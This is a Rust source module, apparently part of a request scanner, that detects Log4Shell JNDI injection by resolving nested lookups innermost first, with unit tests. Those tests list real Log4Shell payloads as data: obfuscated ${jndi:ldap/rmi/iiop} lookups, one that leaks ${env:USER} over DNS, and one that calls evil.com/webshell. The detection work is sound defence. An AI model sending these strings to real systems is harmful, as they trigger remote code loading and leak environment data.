//! Log4Shell (CVE-2021-44228): a `${jndi:...}` lookup, which Log4j 2 resolves in any
//! string it logs (a User-Agent, a user name), loading and running a class from the
//! address it names. Scanners hide the word in nested lookups that Log4j resolves to
//! letters first: `${lower:j}`, `${upper:N}`, `${::-d}` and `${env:X:-i}` (a default),
//! `${date:'i'}`. They are resolved here the same way, innermost first, and the value is
//! an injection when a `jndi:` lookup comes out.

use crate::decode::strip_prefix_ci;

/// Lookups resolved at most (each round resolves one).
const MAX_ROUNDS: usize = 64;

/// The scheme of the JNDI lookup a value holds (`ldap`, `rmi`, `dns`...), if any.
pub(super) fn lookup(v: &[u8]) -> Option<String> {
    memchr::memmem::find(v, b"${")?;
    let mut s = v.to_vec();
    for _ in 0..MAX_ROUNDS {
        // The innermost lookup: the last `${` before the first `}` that closes one.
        let (open, close) = innermost(&s)?;
        let inner = &s[open + 2..close];
        if let Some(rest) = strip_prefix_ci(inner, b"jndi:") {
            let scheme: Vec<u8> = rest
                .iter()
                .take_while(|c| c.is_ascii_alphabetic())
                .copied()
                .collect();
            return Some(String::from_utf8_lossy(&scheme).to_ascii_lowercase());
        }
        let value = resolve(inner);
        s.splice(open..=close, value);
    }
    None
}

/// `(open, close)` of the innermost `${...}`.
fn innermost(s: &[u8]) -> Option<(usize, usize)> {
    let mut from = 0;
    loop {
        let close = from + memchr::memchr(b'}', &s[from..])?;
        if let Some(open) = memchr::memmem::rfind(&s[..close], b"${") {
            return Some((open, close));
        }
        from = close + 1;
    }
}

/// What Log4j makes of a lookup other than `jndi:`: the letters the obfuscations
/// resolve to; anything else (an unset variable) as one letter, so that what is built
/// around it stays a name.
fn resolve(inner: &[u8]) -> Vec<u8> {
    if let Some(x) = strip_prefix_ci(inner, b"lower:") {
        return x.to_ascii_lowercase();
    }
    if let Some(x) = strip_prefix_ci(inner, b"upper:") {
        return x.to_ascii_uppercase();
    }
    if let Some(x) = strip_prefix_ci(inner, b"date:") {
        return x.iter().filter(|&&c| c != b'\'').copied().collect();
    }
    // `${prefix:name:-default}`, `${::-x}`: the default.
    if let Some(i) = memchr::memmem::find(inner, b":-") {
        return inner[i + 2..].to_vec();
    }
    b"x".to_vec()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plain_and_obfuscated_lookups() {
        for (v, scheme) in [
            ("${jndi:ldap://172.16.238.11:1389/a}", "ldap"),
            ("uname=${jNdI:LdAp://x/a}", "ldap"),
            ("${${lower:j}ndi:${lower:l}dap://x/a}", "ldap"),
            (
                "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x/a}",
                "rmi",
            ),
            (
                "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x/a}",
                "ldap",
            ),
            ("${jndi:dns://${env:USER}.x.example}", "dns"),
            ("${${upper:j}ndi:${date:'i'}iop://x}", "iiop"),
            // CRS 932130's: a default that ends in `$`, and the lookup's brace after it.
            (
                "{\"foo\": \"${:1337:-x$}{jndi:ldap://evil.com/webshell}\"}",
                "ldap",
            ),
        ] {
            assert_eq!(lookup(v.as_bytes()).as_deref(), Some(scheme), "{v}");
        }
    }

    #[test]
    fn other_lookups_and_prose() {
        for v in [
            "${HOME}/bin",
            "Total: ${price}",
            "${env:PATH:-/usr/bin}",
            "jndi: the Java Naming and Directory Interface",
            "{jndi:ldap://x}",
            "${${${${${${${${${${${${${${${${${${${${x}}}}}}}}}}}}}}}}}}}}",
            "$}{}${",
        ] {
            assert_eq!(lookup(v.as_bytes()), None, "{v}");
        }
    }
}
